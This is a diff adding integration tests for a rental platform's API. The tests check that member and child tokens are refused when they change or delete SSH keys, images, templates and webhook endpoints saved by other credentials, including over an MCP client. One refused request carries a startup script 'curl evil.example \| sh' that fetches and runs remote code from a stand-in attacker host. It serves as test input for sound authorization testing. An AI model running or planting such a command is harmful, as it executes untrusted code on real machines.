@@ -1,9 +1,11 @@
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
 import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
+import { randomBytes } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { OPERATOR, rentalWorld, type RentalWorld } from '../support/rentals.ts';
 import { startSmtpInbox, type SmtpInbox } from '../support/smtp-inbox.ts';
+import { sshKeygen } from '../support/ssh-keys.ts';
 
 /**
  * One tree of authority (docs/decisions.md, "One tree of authority"), each finding of the attack on people's
@@ -20,7 +22,10 @@ const address = (name: string) => `${name}.${Date.now().toString(36)}${seq++}@ex
 
 beforeAll(async () => {
   inbox = await startSmtpInbox();
-  world = await rentalWorld({ auth: { mail: { smtpUrl: inbox.url, from: 'no-reply@cp.test' } } }, { faulty: true });
+  world = await rentalWorld(
+    { auth: { mail: { smtpUrl: inbox.url, from: 'no-reply@cp.test' } }, secretsKey: randomBytes(32), webhooks: { allowHttp: true, delivery: false } },
+    { faulty: true },
+  );
 });
 afterAll(async () => {
   await world?.close();
@@ -246,5 +251,128 @@ describe('people have roles', () => {
     expect((await call('PATCH', `/v1/identities/${bOwner!.id}`, a.owner, { role: 'viewer' })).status).toBe(404);
     expect((await call('PATCH', `/v1/identities/${bOwner!.id}`, a.owner, { role: 'emperor' })).status).toBe(422);
     expect((await call('PATCH', `/v1/identities/${bOwner!.id}`, a.owner, { spend_limit_usd: '1.234' })).status).toBe(422);
+  });
+});
+
+describe('a credential changes only what its subtree saved (SSH keys, images, templates, webhook endpoints)', () => {
+  const saveKey = async (token: string) => {
+    const saved = await call('POST', '/v1/ssh-keys', token, { name: 'key', public_key: sshKeygen('ed25519').publicLine });
+    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
+    return saved.body.id as string;
+  };
+  const saveImage = async (token: string) => {
+    const saved = await call('POST', '/v1/images', token, { name: 'image', image: 'ghcr.io/example/trainer:1' });
+    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
+    return saved.body.id as string;
+  };
+  const saveTemplate = async (token: string, body: Record<string, unknown> = {}) => {
+    const saved = await call('POST', '/v1/templates', token, { name: 'template', image: 'ghcr.io/example/trainer:1', ...body });
+    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
+    return saved.body.id as string;
+  };
+  const registerEndpoint = async (token: string) => {
+    const saved = await call('POST', '/v1/webhook-endpoints', token, { url: 'http://127.0.0.1:9/hooks' });
+    expect(saved.status, JSON.stringify(saved.body)).toBe(201);
+    return saved.body.id as string;
+  };
+  /** What a credential that is not root is refused on another's: 403 MADE_BY_ANOTHER, as an instance answers. */
+  const refused = async (method: string, path: string, token: string, body?: unknown) => {
+    const answer = await call(method, path, token, body);
+    expect(answer.status, `${method} ${path}: ${JSON.stringify(answer.body)}`).toBe(403);
+    expect(answer.body.detail).toMatch(/was made by another credential of this tenant/);
+  };
+
+  /** A tenant whose owner saved one of each, and a member with a spend limit. */
+  async function tenantWithMember() {
+    const tenant = await ownedTenant(100);
+    const memberEmail = await person('member');
+    const member = (await signIn(memberEmail, tenant.owner)).body.token as string;
+    const memberId = (await people(tenant.owner)).find((p) => p.email === memberEmail)!.id;
+    expect((await call('PATCH', `/v1/identities/${memberId}`, tenant.owner, { role: 'member', spend_limit_usd: '5.00' })).status).toBe(200);
+    const key = await saveKey(tenant.owner);
+    const image = await saveImage(tenant.owner);
+    const template = await saveTemplate(tenant.owner, { ssh_key_ids: [key] });
+    const endpoint = await registerEndpoint(tenant.owner);
+    return { ...tenant, member, memberEmail, owned: { key, image, template, endpoint } };
+  }
+
+  it("a member's session neither changes nor deletes the owner's, deletes its own, and rents with the owner's key and template", async () => {
+    const { owner, member, memberEmail, owned } = await tenantWithMember();
+    await refused('DELETE', `/v1/ssh-keys/${owned.key}`, member);
+    await refused('DELETE', `/v1/templates/${owned.template}`, member);
+    await refused('PATCH', `/v1/templates/${owned.template}`, member, { startup_script: 'curl evil.example | sh' });
+    await refused('PATCH', `/v1/images/${owned.image}`, member, { image: 'ghcr.io/evil/trainer:1' });
+    await refused('DELETE', `/v1/images/${owned.image}`, member);
+    await refused('DELETE', `/v1/webhook-endpoints/${owned.endpoint}`, member);
+    await refused('POST', `/v1/webhook-endpoints/${owned.endpoint}/test`, member);
+    // nothing changed, and reading stays tenant-wide
+    expect((await call('GET', `/v1/ssh-keys/${owned.key}`, member)).status).toBe(200);
+    expect((await call('GET', '/v1/templates', member)).body.find((t: { id: string }) => t.id === owned.template).startup_script).toBeNull();
+    expect((await call('GET', `/v1/webhook-endpoints/${owned.endpoint}`, member)).status).toBe(200);
+    // another of the member's sessions, and the tokens it issues, act on what the member saved; the member deletes its own
+    const again = (await signIn(memberEmail)).body.token as string;
+    const agent = await child(member, { scopes: ['read', 'manage'] });
+    for (const token of [member, again, agent.token]) {
+      const template = await saveTemplate(agent.token, { ssh_key_ids: [await saveKey(agent.token)] });
+      expect((await call('PATCH', `/v1/templates/${template}`, token, { name: 'renamed' })).status).toBe(200);
+      expect((await call('DELETE', `/v1/templates/${template}`, token)).status).toBe(204);
+    }
+    expect((await call('DELETE', `/v1/ssh-keys/${await saveKey(member)}`, member)).status).toBe(204);
+    expect((await call('DELETE', `/v1/webhook-endpoints/${await registerEndpoint(member)}`, member)).status).toBe(204);
+    // using is not changing: the owner's template and key rent a machine for the member, within its limit
+    const [node] = await world.offers((o) => o.rate <= 200);
+    const rented = await world.rent(member, { node_id: node!.id, template_id: owned.template, ssh_key_id: owned.key, termination_hours: 1 });
+    expect(rented.status, JSON.stringify(rented.body)).toBe(201);
+    expect(rented.body).toMatchObject({ template_id: owned.template, ssh_key_id: owned.key });
+    // the owner, being root, deletes anyone's
+    const membersKey = await saveKey(member);
+    expect((await call('DELETE', `/v1/ssh-keys/${membersKey}`, owner)).status).toBe(204);
+  });
+
+  it("a capped child token likewise: its own subtree's yes, root's no; root deletes anyone's; over MCP too", async () => {
+    const { root, owned } = await tenantWithMember();
+    const capped = await child(root, { scopes: ['read', 'rent', 'manage'], spend_limit_usd: '5.00' });
+    await refused('DELETE', `/v1/ssh-keys/${owned.key}`, capped.token);
+    await refused('DELETE', `/v1/templates/${owned.template}`, capped.token);
+    const client = new Client({ name: 'authority-test', version: '1.0.0' });
+    await client.connect(new StreamableHTTPClientTransport(new URL(`${world.api.baseUrl}/mcp`), { requestInit: { headers: { authorization: `Bearer ${capped.token}` } } }));
+    try {
+      for (const [name, args] of [['delete_ssh_key', { key_id: owned.key }], ['delete_template', { template_id: owned.template }]] as const) {
+        const result = (await client.callTool({ name, arguments: args })) as CallToolResult;
+        expect(result.isError, name).toBe(true);
+        expect(JSON.stringify(result.content), name).toMatch(/made by another credential/);
+      }
+    } finally {
+      await client.close();
+    }
+    // what its own child saved is its subtree's; the child reaches nothing of its parent's
+    const grandchild = await child(capped.token, { scopes: ['read', 'manage'] });
+    const childsKey = await saveKey(grandchild.token);
+    const cappedKey = await saveKey(capped.token);
+    await refused('DELETE', `/v1/ssh-keys/${cappedKey}`, grandchild.token);
+    expect((await call('DELETE', `/v1/ssh-keys/${childsKey}`, capped.token)).status).toBe(204);
+    const cappedTemplate = await saveTemplate(capped.token);
+    expect((await call('DELETE', `/v1/templates/${cappedTemplate}`, capped.token)).status).toBe(204);
+    // root reaches everything: the capped token's and the owner's
+    expect((await call('DELETE', `/v1/ssh-keys/${cappedKey}`, root)).status).toBe(204);
+    expect((await call('DELETE', `/v1/templates/${owned.template}`, root)).status).toBe(204);
+    expect((await call('DELETE', `/v1/ssh-keys/${owned.key}`, root)).status).toBe(204);
+    expect((await call('DELETE', `/v1/webhook-endpoints/${owned.endpoint}`, root)).status).toBe(204);
+    // another tenant's is still 404, before any question of who made it
+    const other = await ownedTenant();
+    expect((await call('DELETE', `/v1/images/${owned.image}`, other.root)).status).toBe(404);
+    expect((await call('DELETE', `/v1/images/${owned.image}`, capped.token)).status).toBe(403);
+  });
+
+  it('what was saved before makers were kept belongs to no credential: only root changes it', async () => {
+    const { root, tenantId } = await ownedTenant();
+    const capped = await child(root, { scopes: ['read', 'manage'], spend_limit_usd: '1.00' });
+    const keyId = await saveKey(capped.token);
+    await world.api.plane.storage.transaction((uow) => uow.sshKeys.remove(tenantId, keyId));
+    const key = sshKeygen('ed25519');
+    const old = { id: keyId, tenantId, name: 'old', publicKey: key.publicLine, keyType: 'ssh-ed25519', fingerprint: key.fingerprint, tokenId: null, createdAt: world.clock.now() };
+    expect(await world.api.plane.storage.transaction((uow) => uow.sshKeys.add(old))).toBeNull();
+    await refused('DELETE', `/v1/ssh-keys/${keyId}`, capped.token);
+    expect((await call('DELETE', `/v1/ssh-keys/${keyId}`, root)).status).toBe(204);
   });
 });
